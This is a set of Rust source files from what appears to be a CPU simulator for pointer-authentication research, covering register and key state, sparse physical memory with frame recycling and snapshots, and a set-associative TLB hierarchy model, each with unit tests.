                *slot = (*slot & 0xFFFF_FFFF_FFFF_FFFF) | (u128::from(value) << 64);
                true
            }
            Some((slot, false)) => {
                *slot = (*slot & !0xFFFF_FFFF_FFFF_FFFFu128) | u128::from(value);
                true
            }
            None => false,
        }
    }

    /// Reads one half of a key register (EL1 only, enforced by the core).
    pub fn read_half(&self, reg: SysReg) -> Option<u64> {
        let v = match reg {
            SysReg::ApiaKeyLo => self.ia as u64,
            SysReg::ApiaKeyHi => (self.ia >> 64) as u64,
            SysReg::ApibKeyLo => self.ib as u64,
            SysReg::ApibKeyHi => (self.ib >> 64) as u64,
            SysReg::ApdaKeyLo => self.da as u64,
            SysReg::ApdaKeyHi => (self.da >> 64) as u64,
            SysReg::ApdbKeyLo => self.db as u64,
            SysReg::ApdbKeyHi => (self.db >> 64) as u64,
            SysReg::ApgaKeyLo => self.ga as u64,
            SysReg::ApgaKeyHi => (self.ga >> 64) as u64,
            _ => return None,
        };
        Some(v)
    }
}

/// Architectural register state.
#[derive(Clone, Debug)]
pub struct Cpu {
    /// X0..=X30.
    pub regs: [u64; 31],
    /// Stack pointers, indexed by EL.
    pub sp: [u64; 2],
    /// Program counter.
    pub pc: u64,
    /// Current exception level.
    pub el: El,
    /// Operands of the most recent compare (flags, evaluated lazily).
    pub cmp: (i64, i64),
    /// PA key registers.
    pub keys: KeyStore,
    /// EL0 context saved on syscall entry.
    pub saved: Option<SavedContext>,
}

impl Default for Cpu {
    fn default() -> Self {
        Self::new()
    }
}

impl Cpu {
    /// A reset CPU at EL0.
    pub fn new() -> Self {
        Self {
            regs: [0; 31],
            sp: [0; 2],
            pc: 0,
            el: El::El0,
            cmp: (0, 0),
            keys: KeyStore::default(),
            saved: None,
        }
    }

    /// Reads a register (XZR reads zero, SP reads the current EL's stack
    /// pointer).
    pub fn get(&self, r: Reg) -> u64 {
        match r.index() {
            31 => self.sp[self.el as usize],
            32 => 0,
            n => self.regs[n as usize],
        }
    }

    /// Writes a register (writes to XZR are discarded).
    pub fn set(&mut self, r: Reg, v: u64) {
        match r.index() {
            31 => self.sp[self.el as usize] = v,
            32 => {}
            n => self.regs[n as usize] = v,
        }
    }

    /// Builds the PAC datapath for one of the four pointer keys from the
    /// current key registers.
    pub fn pac_computer(&self, key: PacKey) -> PacComputer {
        PacComputer::new(QarmaKey::from_u128(self.keys.get(key)), pacman_isa::ptr::VA_BITS)
    }

    /// Builds the PAC datapath for the generic key (`PACGA`).
    pub fn pacga_computer(&self) -> PacComputer {
        PacComputer::new(QarmaKey::from_u128(self.keys.ga()), pacman_isa::ptr::VA_BITS)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn xzr_reads_zero_and_swallows_writes() {
        let mut c = Cpu::new();
        c.set(Reg::XZR, 42);
        assert_eq!(c.get(Reg::XZR), 0);
    }

    #[test]
    fn sp_is_banked_per_el() {
        let mut c = Cpu::new();
        c.set(Reg::SP, 0x1000);
        c.el = El::El1;
        c.set(Reg::SP, 0x2000);
        assert_eq!(c.get(Reg::SP), 0x2000);
        c.el = El::El0;
        assert_eq!(c.get(Reg::SP), 0x1000);
    }

    #[test]
    fn key_halves_assemble() {
        let mut ks = KeyStore::default();
        assert!(ks.write_half(SysReg::ApiaKeyLo, 0x1111_2222_3333_4444));
        assert!(ks.write_half(SysReg::ApiaKeyHi, 0xAAAA_BBBB_CCCC_DDDD));
        assert_eq!(ks.get(PacKey::Ia), 0xAAAA_BBBB_CCCC_DDDD_1111_2222_3333_4444);
        assert_eq!(ks.read_half(SysReg::ApiaKeyLo), Some(0x1111_2222_3333_4444));
        assert_eq!(ks.read_half(SysReg::ApiaKeyHi), Some(0xAAAA_BBBB_CCCC_DDDD));
    }

    #[test]
    fn non_key_registers_are_rejected_by_keystore() {
        let mut ks = KeyStore::default();
        assert!(!ks.write_half(SysReg::Pmcr0, 1));
        assert!(ks.read_half(SysReg::CntpctEl0).is_none());
    }

    #[test]
    fn distinct_keys_produce_distinct_pacs() {
        let mut c = Cpu::new();
        c.keys.write_half(SysReg::ApiaKeyLo, 1);
        c.keys.write_half(SysReg::ApibKeyLo, 2);
        let p = 0x0000_7FFF_0000_4000u64;
        let ia = c.pac_computer(PacKey::Ia).pac(p, 0);
        let ib = c.pac_computer(PacKey::Ib).pac(p, 0);
        assert_ne!(ia, ib);
    }

    #[test]
    fn traps_render_usefully() {
        let t = Trap::TranslationFault { va: 0x4000, el: El::El1, access: AccessKind::Load };
        assert!(t.to_string().contains("translation fault"));
        assert!(t.to_string().contains("El1"));
    }
}
