//! Sparse physical memory.

use pacman_isa::ptr::PAGE_SIZE;

/// Physical frame number.
pub type Pfn = u64;

/// Recycled frame storage handed between machine generations so a shard
/// can run thousands of trials without returning to the host allocator.
/// Obtained from [`PhysMemory::take_frame_pool`] and consumed by
/// [`PhysMemory::new_with_pool`]; frames are re-zeroed on reuse, so a
/// pooled machine is bit-identical to a freshly allocated one.
#[derive(Debug, Default)]
pub struct FramePool(Vec<Box<[u8]>>);

impl FramePool {
    /// Number of recycled frames available.
    pub fn len(&self) -> usize {
        self.0.len()
    }

    /// Whether the pool holds no frames.
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
}

/// Byte-addressable physical memory organised in 16 KB frames, with a
/// bump allocator for fresh frames.
///
/// Frames are bump-allocated contiguously from PFN 1, so storage is a
/// dense vector indexed by `pfn - 1` — the per-access frame lookup on
/// the simulator's hottest path is one bounds-checked index, never a
/// hash.
///
/// Frames that hold predecoded code (registered by the execution engine's
/// block cache via [`PhysMemory::note_code_frame`]) are tracked so that
/// any write into them bumps a global code-write generation; the block
/// cache compares generations on every dispatch, which is how
/// self-modifying stores invalidate stale decoded entries.
#[derive(Debug, Default)]
pub struct PhysMemory {
    /// Frame `pfn` lives at index `pfn - 1` (PFN 0 is reserved).
    frames: Vec<Box<[u8]>>,
    /// Per-frame "holds predecoded code" flags, parallel to `frames`
    /// (shorter vectors read as all-false).
    code_flags: Vec<bool>,
    /// Whether any frame is flagged — lets the write path skip the flag
    /// check entirely until the block cache first decodes something.
    any_code: bool,
    code_write_gen: u64,
    /// Recycled frame storage for `alloc_frame`.
    pool: Vec<Box<[u8]>>,
    /// Frames this memory had to request from the host allocator (pool
    /// misses) — the counter behind the executor pool's allocator-free
    /// steady-state claim. Per generation: starts at zero after
    /// `new_with_pool`, so a fully recycled reboot keeps it at zero.
    /// `u32` on purpose: it packs into the padding after `any_code`, so
    /// the struct stays the same size as before the counter existed and
    /// no hot field downstream in `Machine` shifts cache lines.
    fresh_allocs: u32,
}

impl PhysMemory {
    /// Creates empty physical memory.
    pub fn new() -> Self {
        Self::default()
    }

    /// Creates empty physical memory that recycles frames from `pool`
    /// before touching the host allocator. Recycled frames are zeroed on
    /// allocation and the bump allocator restarts at PFN 1, so the frame
    /// layout is identical to [`PhysMemory::new`].
    pub fn new_with_pool(pool: FramePool) -> Self {
        Self { pool: pool.0, ..Self::default() }
    }

    /// Tears down this memory, returning every frame (allocated or already
    /// pooled) as recycled storage for the next machine generation.
    pub fn take_frame_pool(&mut self) -> FramePool {
        let mut pool = std::mem::take(&mut self.pool);
        pool.append(&mut self.frames);
        self.code_flags.clear();
        self.any_code = false;
        self.code_write_gen = 0;
        FramePool(pool)
    }

    /// Allocates a zeroed frame and returns its frame number.
    pub fn alloc_frame(&mut self) -> Pfn {
        let frame = match self.pool.pop() {
            Some(mut f) => {
                f.fill(0);
                f
            }
            None => {
                self.fresh_allocs += 1;
                vec![0u8; PAGE_SIZE as usize].into_boxed_slice()
            }
        };
        self.frames.push(frame);
        self.frames.len() as Pfn
    }

    /// Frames allocated fresh from the host (pool misses) over this
    /// memory generation's lifetime.
    pub fn fresh_alloc_count(&self) -> u64 {
        u64::from(self.fresh_allocs)
    }

    /// Number of allocated frames.
    pub fn frame_count(&self) -> usize {
        self.frames.len()
    }

    /// Registers `pfn` as holding predecoded code: subsequent writes into
    /// it bump the code-write generation. Registration is sticky for the
    /// lifetime of this memory (decoded entries for the frame may persist
    /// in the block cache until invalidated). Unallocated frames cannot be
    /// registered — the block cache never caches from them.
    pub fn note_code_frame(&mut self, pfn: Pfn) {
        if pfn >= 1 && pfn <= self.frames.len() as Pfn {
            if self.code_flags.len() < self.frames.len() {
                self.code_flags.resize(self.frames.len(), false);
            }
            self.code_flags[(pfn - 1) as usize] = true;
            self.any_code = true;
        }
    }

    /// Whether `pfn` is a currently allocated frame.
    pub fn is_backed(&self, pfn: Pfn) -> bool {
        pfn >= 1 && pfn <= self.frames.len() as Pfn
    }

    /// Generation counter bumped by every write that lands in a
    /// registered code frame. A block-cache entry decoded at generation
    /// `g` is valid iff the counter still reads `g`.
    pub fn code_write_gen(&self) -> u64 {
        self.code_write_gen
    }

    #[inline]
    fn frame(&self, pa: u64) -> Option<&[u8]> {
        let pfn = pa / PAGE_SIZE;
        self.frames.get((pfn.wrapping_sub(1)) as usize).map(|f| &f[..])
    }

    #[inline]
    fn bump_if_code(&mut self, pfn: Pfn) {
        if self.any_code && self.code_flags.get((pfn - 1) as usize) == Some(&true) {
            self.code_write_gen += 1;
        }
    }

    /// Reads one byte of physical memory (zero for unbacked addresses).
    pub fn read_u8(&self, pa: u64) -> u8 {
        self.frame(pa).map_or(0, |f| f[(pa % PAGE_SIZE) as usize])
    }

    /// Writes one byte; silently ignored for unbacked addresses.
    pub fn write_u8(&mut self, pa: u64, v: u8) {
        let pfn = pa / PAGE_SIZE;
        if let Some(f) = self.frames.get_mut((pfn.wrapping_sub(1)) as usize) {
            f[(pa % PAGE_SIZE) as usize] = v;
            self.bump_if_code(pfn);
        }
    }

    /// Reads a little-endian 32-bit word (may straddle frames).
    #[inline]
    pub fn read_u32(&self, pa: u64) -> u32 {
        let off = (pa % PAGE_SIZE) as usize;
        if off + 4 <= PAGE_SIZE as usize {
            // Within one frame: a single lookup covers all four bytes (an
            // unbacked frame reads as zero, matching the byte path).
            return self.frame(pa).map_or(0, |f| {
                u32::from_le_bytes(f[off..off + 4].try_into().expect("4-byte slice"))
            });
        }
        let mut b = [0u8; 4];
        for (i, slot) in b.iter_mut().enumerate() {
            *slot = self.read_u8(pa + i as u64);
        }
        u32::from_le_bytes(b)
    }

    /// Writes a little-endian 32-bit word.
    pub fn write_u32(&mut self, pa: u64, v: u32) {
        for (i, byte) in v.to_le_bytes().iter().enumerate() {
            self.write_u8(pa + i as u64, *byte);
        }
    }

    /// Reads a little-endian 64-bit word.
    #[inline]
    pub fn read_u64(&self, pa: u64) -> u64 {
        let off = (pa % PAGE_SIZE) as usize;
        if off + 8 <= PAGE_SIZE as usize {
            return self.frame(pa).map_or(0, |f| {
                u64::from_le_bytes(f[off..off + 8].try_into().expect("8-byte slice"))
            });
        }
        let mut b = [0u8; 8];
        for (i, slot) in b.iter_mut().enumerate() {
            *slot = self.read_u8(pa + i as u64);
        }
        u64::from_le_bytes(b)
    }

    /// Writes a little-endian 64-bit word.
    pub fn write_u64(&mut self, pa: u64, v: u64) {
        let pfn = pa / PAGE_SIZE;
        let off = (pa % PAGE_SIZE) as usize;
        if off + 8 <= PAGE_SIZE as usize {
            if let Some(f) = self.frames.get_mut((pfn.wrapping_sub(1)) as usize) {
                f[off..off + 8].copy_from_slice(&v.to_le_bytes());
                self.bump_if_code(pfn);
            }
            return;
        }
        for (i, byte) in v.to_le_bytes().iter().enumerate() {
            self.write_u8(pa + i as u64, *byte);
        }
    }

    /// Copies a byte slice into physical memory.
    pub fn write_bytes(&mut self, pa: u64, bytes: &[u8]) {
        for (i, &b) in bytes.iter().enumerate() {
            self.write_u8(pa + i as u64, b);
        }
    }

    /// Serialises every frame plus the code-tracking state. All-zero
    /// frames are stored as one flag byte, so a sparse address space
    /// stays a small snapshot.
    pub fn save_state(&self, w: &mut pacman_telemetry::bin::Writer) {
        w.u64(self.code_write_gen);
        w.u32(self.fresh_allocs);
        w.usize(self.frames.len());
        for frame in &self.frames {
            let nonzero = frame.iter().any(|&b| b != 0);
            w.bool(nonzero);
            if nonzero {
                w.bytes(frame);
            }
        }
        let flagged: Vec<u64> =
            self.code_flags.iter().enumerate().filter(|(_, &f)| f).map(|(i, _)| i as u64).collect();
        w.usize(flagged.len());
        for i in flagged {
            w.u64(i);
        }
    }

    /// Restores state written by [`PhysMemory::save_state`], recycling
    /// this memory's existing frame boxes (surplus frames return to the
    /// internal pool; missing ones are drawn from it, then the host).
    ///
    /// # Errors
    ///
    /// [`pacman_telemetry::bin::BinError`] on a truncated or corrupt
    /// stream; this memory's contents are then unspecified and the
    /// caller must discard it.
    pub fn restore_state(
        &mut self,
        r: &mut pacman_telemetry::bin::Reader<'_>,
    ) -> Result<(), pacman_telemetry::bin::BinError> {
        self.code_write_gen = r.u64()?;
        self.fresh_allocs = r.u32()?;
        let count = r.usize()?;
        while self.frames.len() > count {
            self.pool.push(self.frames.pop().expect("len checked"));
        }
        while self.frames.len() < count {
            let frame = self.pool.pop().unwrap_or_else(|| {
                self.fresh_allocs += 1;
                vec![0u8; PAGE_SIZE as usize].into_boxed_slice()
            });
            self.frames.push(frame);
        }
        for frame in &mut self.frames {
            if r.bool()? {
                let bytes = r.bytes()?;
                if bytes.len() != frame.len() {
                    return Err(pacman_telemetry::bin::BinError::Corrupt(format!(
                        "frame size {} != {PAGE_SIZE}",
                        bytes.len()
                    )));
                }
                frame.copy_from_slice(bytes);
            } else {
                frame.fill(0);
            }
        }
        self.code_flags.clear();
        self.code_flags.resize(count, false);
        self.any_code = false;
        for _ in 0..r.usize()? {
            let i = r.usize()?;
            let slot = self.code_flags.get_mut(i).ok_or_else(|| {
                pacman_telemetry::bin::BinError::Corrupt(format!("code flag index {i}"))
            })?;
            *slot = true;
            self.any_code = true;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_16kb_and_zeroed() {
        let mut m = PhysMemory::new();
        let pfn = m.alloc_frame();
        let base = pfn * PAGE_SIZE;
        assert_eq!(m.read_u64(base), 0);
        assert_eq!(m.read_u8(base + PAGE_SIZE - 1), 0);
    }

    #[test]
    fn word_roundtrips_within_a_frame() {
        let mut m = PhysMemory::new();
        let base = m.alloc_frame() * PAGE_SIZE;
        m.write_u64(base + 8, 0x1122_3344_5566_7788);
        assert_eq!(m.read_u64(base + 8), 0x1122_3344_5566_7788);
        m.write_u32(base + 100, 0xDEADBEEF);
        assert_eq!(m.read_u32(base + 100), 0xDEADBEEF);
    }

    #[test]
    fn words_straddle_frames() {
        let mut m = PhysMemory::new();
        let a = m.alloc_frame();
        let b = m.alloc_frame();
        assert_eq!(b, a + 1, "bump allocator must be contiguous");
        let boundary = b * PAGE_SIZE - 4;
        m.write_u64(boundary, 0xA1B2_C3D4_E5F6_0718);
        assert_eq!(m.read_u64(boundary), 0xA1B2_C3D4_E5F6_0718);
        assert_eq!(m.read_u32(boundary + 2), (0xA1B2_C3D4_E5F6_0718u64 >> 16) as u32);
    }

    #[test]
    fn unbacked_reads_are_zero_and_writes_ignored() {
        let mut m = PhysMemory::new();
        m.write_u64(0x8000_0000, 42);
        assert_eq!(m.read_u64(0x8000_0000), 0);
        // PFN 0 is reserved and never backed.
        m.write_u64(8, 42);
        assert_eq!(m.read_u64(8), 0);
        assert!(!m.is_backed(0));
    }

    #[test]
    fn write_bytes_copies() {
        let mut m = PhysMemory::new();
        let base = m.alloc_frame() * PAGE_SIZE;
        m.write_bytes(base, &[1, 2, 3, 4]);
        assert_eq!(m.read_u32(base), u32::from_le_bytes([1, 2, 3, 4]));
    }

    #[test]
    fn code_write_generation_tracks_only_registered_frames() {
        let mut m = PhysMemory::new();
        let code = m.alloc_frame();
        let data = m.alloc_frame();
        assert_eq!(m.code_write_gen(), 0);

        // Unregistered writes never move the generation.
        m.write_u64(data * PAGE_SIZE, 1);
        m.write_u8(code * PAGE_SIZE, 1);
        assert_eq!(m.code_write_gen(), 0);

        m.note_code_frame(code);
        m.write_u64(data * PAGE_SIZE + 8, 2);
        assert_eq!(m.code_write_gen(), 0, "data-frame writes are free");
        m.write_u8(code * PAGE_SIZE + 4, 0xAA);
        assert_eq!(m.code_write_gen(), 1);
        m.write_u64(code * PAGE_SIZE + 8, 0xBB);
        assert_eq!(m.code_write_gen(), 2);
        // A straddling write that clips the code frame still bumps.
        m.write_u64(code * PAGE_SIZE + PAGE_SIZE - 4, 0xCC);
        assert!(m.code_write_gen() >= 3);
    }

    #[test]
    fn code_frames_registered_after_later_allocs_still_track() {
        let mut m = PhysMemory::new();
        let code = m.alloc_frame();
        for _ in 0..4 {
            m.alloc_frame();
        }
        m.note_code_frame(code);
        m.write_u8(code * PAGE_SIZE, 1);
        assert_eq!(m.code_write_gen(), 1);
        // Unallocated frames cannot be registered.
        m.note_code_frame(99);
        m.write_u8(99 * PAGE_SIZE, 1);
        assert_eq!(m.code_write_gen(), 1);
    }

    #[test]
    fn frame_pool_recycles_with_identical_layout() {
        let mut m = PhysMemory::new();
        let a = m.alloc_frame();
        let b = m.alloc_frame();
        m.write_u64(a * PAGE_SIZE, 0xDEAD);
        m.write_u64(b * PAGE_SIZE + 16, 0xBEEF);

        let pool = m.take_frame_pool();
        assert_eq!(pool.len(), 2);
        assert!(!pool.is_empty());
        assert_eq!(m.frame_count(), 0);

        let mut m2 = PhysMemory::new_with_pool(pool);
        let a2 = m2.alloc_frame();
        let b2 = m2.alloc_frame();
        assert_eq!((a2, b2), (a, b), "bump layout must repeat across generations");
        assert_eq!(m2.read_u64(a2 * PAGE_SIZE), 0, "recycled frames are zeroed");
        assert_eq!(m2.read_u64(b2 * PAGE_SIZE + 16), 0);
        // Pool exhausted: the third frame falls back to fresh allocation.
        let c = m2.alloc_frame();
        assert_eq!(c, b2 + 1);
        assert_eq!(m2.read_u64(c * PAGE_SIZE), 0);
    }
}
