//! Sparse physical memory.

use std::collections::HashMap;

use pacman_isa::ptr::PAGE_SIZE;

/// Physical frame number.
pub type Pfn = u64;

/// Byte-addressable sparse physical memory organised in 16 KB frames, with
/// a bump allocator for fresh frames.
#[derive(Debug, Default)]
pub struct PhysMemory {
    frames: HashMap<Pfn, Box<[u8]>>,
    next_pfn: Pfn,
}

impl PhysMemory {
    /// Creates empty physical memory.
    pub fn new() -> Self {
        Self { frames: HashMap::new(), next_pfn: 1 } // PFN 0 reserved
    }

    /// Allocates a zeroed frame and returns its frame number.
    pub fn alloc_frame(&mut self) -> Pfn {
        let pfn = self.next_pfn;
        self.next_pfn += 1;
        self.frames.insert(pfn, vec![0u8; PAGE_SIZE as usize].into_boxed_slice());
        pfn
    }

    /// Number of allocated frames.
    pub fn frame_count(&self) -> usize {
        self.frames.len()
    }

    fn frame(&self, pa: u64) -> Option<&[u8]> {
        self.frames.get(&(pa / PAGE_SIZE)).map(|f| &f[..])
    }

    fn frame_mut(&mut self, pa: u64) -> Option<&mut [u8]> {
        self.frames.get_mut(&(pa / PAGE_SIZE)).map(|f| &mut f[..])
    }

    /// Reads one byte of physical memory (zero for unbacked addresses).
    pub fn read_u8(&self, pa: u64) -> u8 {
        self.frame(pa).map_or(0, |f| f[(pa % PAGE_SIZE) as usize])
    }

    /// Writes one byte; silently ignored for unbacked addresses.
    pub fn write_u8(&mut self, pa: u64, v: u8) {
        if let Some(f) = self.frame_mut(pa) {
            f[(pa % PAGE_SIZE) as usize] = v;
        }
    }

    /// Reads a little-endian 32-bit word (may straddle frames).
    pub fn read_u32(&self, pa: u64) -> u32 {
        let mut b = [0u8; 4];
        for (i, slot) in b.iter_mut().enumerate() {
            *slot = self.read_u8(pa + i as u64);
        }
        u32::from_le_bytes(b)
    }

    /// Writes a little-endian 32-bit word.
    pub fn write_u32(&mut self, pa: u64, v: u32) {
        for (i, byte) in v.to_le_bytes().iter().enumerate() {
            self.write_u8(pa + i as u64, *byte);
        }
    }

    /// Reads a little-endian 64-bit word.
    pub fn read_u64(&self, pa: u64) -> u64 {
        let mut b = [0u8; 8];
        for (i, slot) in b.iter_mut().enumerate() {
            *slot = self.read_u8(pa + i as u64);
        }
        u64::from_le_bytes(b)
    }

    /// Writes a little-endian 64-bit word.
    pub fn write_u64(&mut self, pa: u64, v: u64) {
        for (i, byte) in v.to_le_bytes().iter().enumerate() {
            self.write_u8(pa + i as u64, *byte);
        }
    }

    /// Copies a byte slice into physical memory.
    pub fn write_bytes(&mut self, pa: u64, bytes: &[u8]) {
        for (i, &b) in bytes.iter().enumerate() {
            self.write_u8(pa + i as u64, b);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_16kb_and_zeroed() {
        let mut m = PhysMemory::new();
        let pfn = m.alloc_frame();
        let base = pfn * PAGE_SIZE;
        assert_eq!(m.read_u64(base), 0);
        assert_eq!(m.read_u8(base + PAGE_SIZE - 1), 0);
    }

    #[test]
    fn word_roundtrips_within_a_frame() {
        let mut m = PhysMemory::new();
        let base = m.alloc_frame() * PAGE_SIZE;
        m.write_u64(base + 8, 0x1122_3344_5566_7788);
        assert_eq!(m.read_u64(base + 8), 0x1122_3344_5566_7788);
        m.write_u32(base + 100, 0xDEADBEEF);
        assert_eq!(m.read_u32(base + 100), 0xDEADBEEF);
    }

    #[test]
    fn words_straddle_frames() {
        let mut m = PhysMemory::new();
        let a = m.alloc_frame();
        let b = m.alloc_frame();
        assert_eq!(b, a + 1, "bump allocator must be contiguous");
        let boundary = b * PAGE_SIZE - 4;
        m.write_u64(boundary, 0xA1B2_C3D4_E5F6_0718);
        assert_eq!(m.read_u64(boundary), 0xA1B2_C3D4_E5F6_0718);
    }

    #[test]
    fn unbacked_reads_are_zero_and_writes_ignored() {
        let mut m = PhysMemory::new();
        m.write_u64(0x8000_0000, 42);
        assert_eq!(m.read_u64(0x8000_0000), 0);
    }

    #[test]
    fn write_bytes_copies() {
        let mut m = PhysMemory::new();
        let base = m.alloc_frame() * PAGE_SIZE;
        m.write_bytes(base, &[1, 2, 3, 4]);
        assert_eq!(m.read_u32(base), u32::from_le_bytes([1, 2, 3, 4]));
    }
}
