//! The TLB hierarchy reverse-engineered in paper §7 (Figure 6).
//!
//! Per p-core there are four structures:
//!
//! - two private L1 instruction TLBs (4 ways × 32 sets), one for
//!   userspace and one for kernelspace fetches — *not* shared across
//!   privilege levels;
//! - one L1 data TLB (12 ways × 256 sets), shared across privilege
//!   levels — the channel all the PoC attacks monitor;
//! - one L2 TLB (23 ways × 2048 sets), shared.
//!
//! The paper's key §7.3 finding is modelled exactly: the L1 dTLB serves as
//! a **non-inclusive backing store** of the iTLBs — an entry evicted from
//! an iTLB is inserted into the dTLB (becoming visible to loads), while an
//! entry resident only in an iTLB is invisible to the load/store port.

use crate::paging::Perms;

/// Geometry of one TLB structure.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub struct TlbParams {
    /// Associativity.
    pub ways: usize,
    /// Number of sets (power of two).
    pub sets: usize,
}

/// One cached translation.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub struct TlbEntry {
    /// Virtual page number (canonical VA bits `[47:14]`).
    pub vpn: u64,
    /// Physical frame number.
    pub pfn: u64,
    /// Page permissions.
    pub perms: Perms,
}

/// A single set-associative, true-LRU TLB.
///
/// Entries live in one flat allocation indexed `set * ways + way`, with
/// way 0 the MRU; only the first `occ[set]` ways of a set are live. LRU
/// maintenance is slice rotation within the set's window, so lookups,
/// fills and invalidates never allocate — this structure sits on every
/// simulated memory access.
#[derive(Clone, Debug)]
pub struct Tlb {
    params: TlbParams,
    /// Cached `sets - 1` (sets are a power of two).
    set_mask: usize,
    /// Flat MRU-first entry storage; slots beyond a set's occupancy are
    /// dead and never read.
    entries: Vec<TlbEntry>,
    /// Live-way count per set.
    occ: Vec<u16>,
}

/// Placeholder filling dead slots (never observable through the API).
const DEAD: TlbEntry = TlbEntry {
    vpn: 0,
    pfn: 0,
    perms: Perms { read: false, write: false, execute: false, user: false },
};

impl Tlb {
    /// Creates an empty TLB.
    pub fn new(params: TlbParams) -> Self {
        assert!(params.ways > 0 && params.sets.is_power_of_two());
        Self {
            params,
            set_mask: params.sets - 1,
            entries: vec![DEAD; params.ways * params.sets],
            occ: vec![0; params.sets],
        }
    }

    /// This TLB's geometry.
    pub fn params(&self) -> TlbParams {
        self.params
    }

    /// The set index a virtual page number maps to.
    pub fn set_of(&self, vpn: u64) -> usize {
        (vpn as usize) & self.set_mask
    }

    /// Looks up a translation, promoting it to MRU on hit.
    #[inline]
    pub fn lookup(&mut self, vpn: u64) -> Option<TlbEntry> {
        let set = self.set_of(vpn);
        let base = set * self.params.ways;
        let n = self.occ[set] as usize;
        let live = &mut self.entries[base..base + n];
        // Re-touching the MRU way (consecutive accesses to one page) needs
        // no promotion.
        match live.first() {
            Some(e) if e.vpn == vpn => Some(*e),
            _ => {
                let pos = live.iter().position(|e| e.vpn == vpn)?;
                let hit = live[pos];
                live.copy_within(..pos, 1);
                live[0] = hit;
                Some(hit)
            }
        }
    }

    /// Presence check without LRU side effects.
    pub fn contains(&self, vpn: u64) -> bool {
        let set = self.set_of(vpn);
        let base = set * self.params.ways;
        self.entries[base..base + self.occ[set] as usize].iter().any(|e| e.vpn == vpn)
    }

    /// Inserts an entry as MRU, returning the evicted LRU victim if the
    /// set overflowed. Re-inserting an existing vpn replaces it.
    pub fn insert(&mut self, entry: TlbEntry) -> Option<TlbEntry> {
        let set = self.set_of(entry.vpn);
        let base = set * self.params.ways;
        let mut n = self.occ[set] as usize;
        let ways = &mut self.entries[base..base + self.params.ways];
        if let Some(pos) = ways[..n].iter().position(|e| e.vpn == entry.vpn) {
            // Remove in place (the replacement may carry a new pfn/perms).
            ways[pos..n].rotate_left(1);
            n -= 1;
            self.occ[set] -= 1;
        }
        if n == ways.len() {
            let victim = ways[n - 1];
            ways.rotate_right(1);
            ways[0] = entry;
            Some(victim)
        } else {
            ways[..=n].rotate_right(1);
            ways[0] = entry;
            self.occ[set] += 1;
            None
        }
    }

    /// Drops the entry for `vpn` if present.
    pub fn invalidate(&mut self, vpn: u64) -> bool {
        let set = self.set_of(vpn);
        let base = set * self.params.ways;
        let n = self.occ[set] as usize;
        let live = &mut self.entries[base..base + n];
        if let Some(pos) = live.iter().position(|e| e.vpn == vpn) {
            live[pos..].rotate_left(1);
            self.occ[set] -= 1;
            true
        } else {
            false
        }
    }

    /// Drops everything (a `tlbi`-style full invalidate).
    pub fn flush(&mut self) {
        self.occ.fill(0);
    }

    /// Number of valid entries currently in `set`.
    pub fn occupancy(&self, set: usize) -> usize {
        self.occ[set] as usize
    }

    /// Serialises the live prefix of every set, MRU order included.
    pub fn save_state(&self, w: &mut pacman_telemetry::bin::Writer) {
        w.usize(self.occ.len());
        for (set, &n) in self.occ.iter().enumerate() {
            let base = set * self.params.ways;
            w.u16(n);
            for e in &self.entries[base..base + n as usize] {
                w.u64(e.vpn);
                w.u64(e.pfn);
                let p = &e.perms;
                w.u8(u8::from(p.read)
                    | u8::from(p.write) << 1
                    | u8::from(p.execute) << 2
                    | u8::from(p.user) << 3);
            }
        }
    }

    /// Restores state written by [`Tlb::save_state`] into a TLB of
    /// identical geometry.
    ///
    /// # Errors
    ///
    /// [`pacman_telemetry::bin::BinError`] on truncation, corruption,
    /// or a geometry mismatch.
    pub fn restore_state(
        &mut self,
        r: &mut pacman_telemetry::bin::Reader<'_>,
    ) -> Result<(), pacman_telemetry::bin::BinError> {
        use pacman_telemetry::bin::BinError;
        let sets = r.usize()?;
        if sets != self.occ.len() {
            return Err(BinError::Corrupt(format!("set count {sets} != {}", self.occ.len())));
        }
        for set in 0..sets {
            let n = r.u16()?;
            if n as usize > self.params.ways {
                return Err(BinError::Corrupt(format!(
                    "occupancy {n} > {} ways",
                    self.params.ways
                )));
            }
            let base = set * self.params.ways;
            for way in 0..n as usize {
                let vpn = r.u64()?;
                let pfn = r.u64()?;
                let bits = r.u8()?;
                if bits > 0xF {
                    return Err(BinError::Corrupt(format!("perm bits {bits:#x}")));
                }
                self.entries[base + way] = TlbEntry {
                    vpn,
                    pfn,
                    perms: Perms {
                        read: bits & 1 != 0,
                        write: bits & 2 != 0,
                        execute: bits & 4 != 0,
                        user: bits & 8 != 0,
                    },
                };
            }
            self.occ[set] = n;
        }
        Ok(())
    }
}

/// Which privilege level an instruction fetch executes at (selects the
/// private iTLB).
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub enum FetchWorld {
    /// EL0 fetch.
    User,
    /// EL1 fetch.
    Kernel,
}

/// Result of a data-side hierarchy lookup.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub enum DataLookup {
    /// Hit in the L1 dTLB.
    DtlbHit(TlbEntry),
    /// Missed the dTLB, hit the L2 TLB; the dTLB has been refilled.
    L2Hit(TlbEntry),
    /// Missed everywhere; the caller must walk the page tables and then
    /// call [`TlbHierarchy::fill_data`].
    Miss,
}

/// Result of an instruction-side hierarchy lookup.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub enum FetchLookup {
    /// Hit in the private L1 iTLB.
    ItlbHit(TlbEntry),
    /// Missed the iTLB, hit the L2 TLB; the iTLB has been refilled (and
    /// any iTLB victim migrated into the dTLB).
    L2Hit(TlbEntry),
    /// Missed everywhere; walk then call [`TlbHierarchy::fill_fetch`].
    Miss,
}

/// Per-structure hit/miss/fill/eviction counters, always on (plain `u64`
/// adds on paths that already do set scans; exported into a telemetry
/// registry only at snapshot boundaries).
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug, Default)]
pub struct TlbStats {
    /// dTLB hits.
    pub dtlb_hits: u64,
    /// dTLB misses.
    pub dtlb_misses: u64,
    /// dTLB entry installs (refills, walks, and §7.3 migrations).
    pub dtlb_fills: u64,
    /// dTLB capacity evictions.
    pub dtlb_evictions: u64,
